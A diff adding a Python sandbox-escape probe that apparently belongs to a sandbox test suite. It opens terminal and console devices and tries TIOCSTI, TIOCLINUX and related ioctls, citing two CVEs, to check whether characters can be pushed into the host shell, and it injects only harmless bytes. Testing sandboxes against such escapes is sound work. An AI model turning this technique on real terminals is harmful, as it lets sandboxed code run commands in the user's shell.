@@ -1,0 +1,40 @@
+"""Type into the terminal of whoever started the server.
+
+Technique: TIOCSTI puts characters into a terminal's input as if typed (CVE-2017-5226 against bubblewrap, CVE-2023-28100 the same by
+    TIOCLINUX): the shell that started the sandbox executes them after it. Tried on the standard streams, /dev/tty, consoles and
+    pseudo-terminals, with a pseudo-terminal made if one can be had.
+Success: a terminal is opened, or the kernel takes the request.
+Stopped by: root_filesystem, seccomp
+"""
+import fcntl
+import glob
+
+TIOCSTI, TIOCLINUX, TIOCSCTTY, TIOCSETD, TIOCCONS = 0x5412, 0x541C, 0x540E, 0x5423, 0x541D
+
+
+def attack():
+    won = []
+    descriptors = {str(number): number for number in range(3)}
+    places = ["/dev/tty", "/dev/tty0", "/dev/tty1", "/dev/console", "/dev/ttyS0", "/dev/ptmx", "/dev/pts/ptmx", "/dev/vcs", *glob.glob("/dev/pts/*")]
+    for place in places:
+        fd = answer(os.open, place, os.O_RDWR | os.O_NOCTTY)
+        if isinstance(fd, int):
+            won.append(f"opened {place}")
+            descriptors[place] = fd
+    for name, fd in descriptors.items():
+        for request, argument in ((TIOCSTI, b" "), (TIOCLINUX, b"\x02"), (TIOCSCTTY, 0), (TIOCSETD, b"\0\0\0\0"), (TIOCCONS, 0)):
+            came = answer(fcntl.ioctl, fd, request, argument)
+            # What is no terminal says ENOTTY without a filter, so that counts only where there is one.
+            if came not in ("EPERM", "ENOTTY", "EACCES", "EIO", "EINVAL"):
+                won.append(f"{request:#x} on {name}: {came}")
+    return won and f"{won}"
+
+
+def twin():
+    """Asking whether one has a terminal, and how large, and going on without."""
+    import getpass
+    import shutil
+
+    assert not sys.stdin.isatty() and not sys.stdout.isatty()
+    assert shutil.get_terminal_size((80, 24)) == (80, 24)
+    assert getpass.getuser() == "user"
